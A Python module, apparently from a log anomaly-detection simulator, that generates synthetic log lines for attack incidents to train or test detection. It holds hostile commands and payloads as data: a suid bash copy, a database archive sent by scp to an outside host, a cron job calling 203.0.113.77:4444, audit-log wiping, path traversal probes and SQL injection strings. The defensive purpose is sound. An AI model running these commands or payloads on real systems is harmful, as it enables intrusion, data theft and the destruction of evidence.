"""Incidents with a person behind them: guessed passwords, new rights, data carried off, traces removed.

Belongs here: one function a kind, which plays the incident on its chain and says where it happened. Does not
belong here: failures without intent (``faults``), or when incidents come (``incidents``).
"""

from __future__ import annotations

from typing import Final

from logad_pipeline.logs.simulator.cast import (
    AGENTS,
    APP01,
    BASTION,
    DB01,
    HOSTS,
    INNER_HOSTS,
    SERVICE_UIDS,
    WEB01,
    WEB02,
    Host,
    fingerprint,
    stranger,
)
from logad_pipeline.logs.simulator.housekeeping import HOURLY
from logad_pipeline.logs.simulator.requests import CATEGORIES
from logad_pipeline.logs.simulator.sessions import cron_run, login, logout, sudo
from logad_pipeline.logs.simulator.timeline import Chain

SCANNED_PATHS: Final = (
    "/.git/config",
    "/.env",
    "/phpmyadmin/index.php",
    "/admin/config.php",
    "/backup.zip",
    "/server-status",
    "/cgi-bin/test.cgi",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system",
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2fetc%2fshadow",
    "/console/login.jsp",
    "/old/db.sql",
    "/shell.php",
)
SCANNER_AGENTS: Final = (
    "Mozilla/5.00 (Nikto/2.5.0)",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
)
INJECTED: Final = (
    "%27%20OR%20%271%27%3D%271",
    "1%20UNION%20SELECT%20NULL%2CNULL%2Cversion%28%29--",
    "1%27%3BSELECT%20pg_sleep%285%29--",
    "lamps%27%20AND%20%28SELECT%20COUNT%28%2A%29%20FROM%20customers%29%3E0--",
)


def guessed_password(chain: Chain) -> tuple[Host, str]:
    """Slow guesses at one known name, then in: each line alone is everyday noise."""
    rng = chain.rng
    address, person = stranger(rng), rng.choice(chain.world.people)
    guesses = rng.randrange(9, 14)
    for _ in range(guesses):
        pid, port = chain.new_pid(BASTION), rng.randrange(32_800, 61_000)
        text = f"Failed password for {person.name} from {address} port {port} ssh2"
        chain.say(BASTION, "sshd", text, pid, (8, 55))
    session = login(chain, BASTION, person.name, person.uid, address, None)
    chain.wait(60, 400)
    logout(chain, session)
    return (
        BASTION,
        f"{guesses} slow password guesses for {person.name} from {address}, then a login with a password.",
    )


def new_rights(chain: Chain) -> tuple[Host, str]:
    """A member of staff makes a second account with all rights and a suid shell."""
    rng = chain.rng
    host, person = rng.choice((APP01, WEB02)), rng.choice(chain.world.people)
    name, uid = rng.choice(("svc-report", "sysupdate", "mailq", "nagios2")), rng.randrange(1010, 1040)
    sudo(chain, host, person.name, f"/usr/sbin/useradd -m -G sudo {name}", uid=person.uid, after=(1, 3))
    pid = chain.new_pid(host)
    chain.say(host, "useradd", f"new group: name={name}, GID={uid}", pid)
    chain.say(
        host,
        "useradd",
        f"new user: name={name}, UID={uid}, GID={uid}, home=/home/{name}, shell=/bin/bash",
        pid,
    )
    chain.say(host, "useradd", f"add '{name}' to group 'sudo'", pid)
    sudo(
        chain,
        host,
        person.name,
        "/usr/bin/cp /bin/bash /usr/local/bin/.cache-helper",
        uid=person.uid,
        after=(20, 90),
    )
    sudo(
        chain,
        host,
        person.name,
        "/usr/bin/chmod 4755 /usr/local/bin/.cache-helper",
        uid=person.uid,
        after=(5, 30),
    )
    return (
        host,
        f"{person.name} creates {name} in the sudo group on {host.name} and a suid copy of the shell.",
    )


def carried_off(chain: Chain) -> tuple[Host, str]:
    """At night a service account packs the database and sends it out."""
    rng = chain.rng
    target, user = stranger(rng), rng.choice(("postgres", "backup"))
    uid = SERVICE_UIDS[user]
    session = login(chain, DB01, user, uid, APP01.address, chain.world.deploy_key)
    where = "/var/tmp"
    archive = f"/var/tmp/.{rng.getrandbits(24):06x}.tgz"
    for command, seconds in (
        (f"/usr/bin/tar czf {archive} /var/lib/postgresql/15/main", (90, 240)),
        (f"/usr/bin/scp -q -P 2222 {archive} drop@{target}:/in/", (200, 900)),
        (f"/usr/bin/rm -f {archive}", (0, 1)),
    ):
        sudo(chain, DB01, user, command, uid=uid, folder=where, after=(3, 20), seconds=seconds)
    logout(chain, session)
    return DB01, f"At night {user} packs the database directory on db01 and copies it to {target}."


def wandering_key(chain: Chain) -> tuple[Host, str]:
    """The deployment's key is used from the web host, on one host after the other, outside work hours."""
    rng = chain.rng
    hosts = rng.sample([host for host in INNER_HOSTS if host is not WEB01], 2)
    for host in hosts:
        session = login(chain, host, "deploy", SERVICE_UIDS["deploy"], WEB01.address, chain.world.deploy_key)
        chain.wait(5, 40)
        logout(chain, session)
        chain.wait(5, 60)
    names = " and ".join(host.name for host in hosts)
    return hosts[0], f"The key of deploy is used from web01 on {names} outside work hours."


def strange_key(chain: Chain) -> tuple[Host, str]:
    """Root logs in directly with a key that nobody has used before."""
    rng = chain.rng
    host, address = rng.choice((WEB01, WEB02)), stranger(rng)
    session = login(chain, host, "root", 0, address, fingerprint(rng))
    chain.wait(30, 500)
    logout(chain, session)
    return host, f"root logs in to {host.name} from {address} with a key not seen before."


def scanned_site(chain: Chain) -> tuple[Host, str]:
    """Someone looks for forgotten files and ways out of the document root."""
    rng = chain.rng
    address, agent = stranger(rng), rng.choice(SCANNER_AGENTS)
    for path in rng.sample(SCANNED_PATHS, rng.randrange(11, 15)):
        status = 400 if ".." in path else rng.choice((404, 404, 404, 403, 500))
        chain.access(address, f"GET {path}", status, rng.randrange(190, 560), agent, after=(0.1, 2.5))
    return WEB01, f"{address} asks for files that lie outside or should not be in the shop."


def altered_query(chain: Chain) -> tuple[Host, str]:
    """A few search requests carry SQL; an everyday browser, and mostly answered with 200."""
    rng = chain.rng
    address, agent = stranger(rng), rng.choice(AGENTS)
    for text in rng.sample(INJECTED, 4):
        path = f"/api/v1/search?q={text}&page=1"
        chain.access(
            address,
            f"GET {path}",
            rng.choice((200, 200, 500)),
            rng.randrange(200, 90_000),
            agent,
            after=(5, 50),
        )
    chain.access(address, f"GET /{rng.choice(CATEGORIES)}/-1%20OR%201%3D1", 500, 312, agent, after=(5, 20))
    return WEB01, f"{address} sends search terms that contain SQL."


def odd_cron(chain: Chain) -> tuple[Host, str]:
    """The hourly job runs at a wrong minute, and after it a command never seen."""
    rng = chain.rng
    host = rng.choice(HOSTS)
    user = "www-data" if host in (WEB01, WEB02) else "root"
    cron_run(chain, host, "root", HOURLY, (0.2, 1))
    hidden = f"/tmp/.{rng.choice(('X11', 'font', 'ICE'))}-cache/{rng.getrandbits(32):08x}"
    for _ in range(2):
        cron_run(chain, host, user, f"{hidden} -o 203.0.113.77:4444 >/dev/null 2>&1", (20, 59))
        chain.wait(240, 300)
    return host, f"On {host.name} cron runs at an odd minute, then a hidden program under /tmp as {user}."


def traces_removed(chain: Chain) -> tuple[Host, str]:
    """Auditing is stopped, the login log is cut to nothing, and the logger restarted."""
    rng = chain.rng
    host, person = rng.choice((BASTION, APP01)), rng.choice(chain.world.people)
    sudo(chain, host, person.name, "/usr/sbin/service auditd stop", uid=person.uid, after=(1, 2))
    chain.daemon(host, "auditd", "The audit daemon is exiting.", (0.1, 0.5))
    chain.systemd(host, "auditd.service: Deactivated successfully.")
    chain.systemd(host, "Stopped Security Auditing Service.")
    sudo(chain, host, person.name, "/usr/bin/truncate -s 0 /var/log/auth.log", uid=person.uid, after=(5, 40))
    sudo(chain, host, person.name, "/usr/bin/systemctl restart rsyslog", uid=person.uid, after=(3, 15))
    chain.say(
        host,
        "rsyslogd",
        '[origin software="rsyslogd" swVersion="8.2302.0"] exiting on signal 15.',
        after=(0.1, 1),
    )
    chain.say(host, "rsyslogd", '[origin software="rsyslogd" swVersion="8.2302.0"] start', after=(0.2, 1))
    return host, f"{person.name} stops auditing on {host.name}, empties auth.log and restarts the logger."
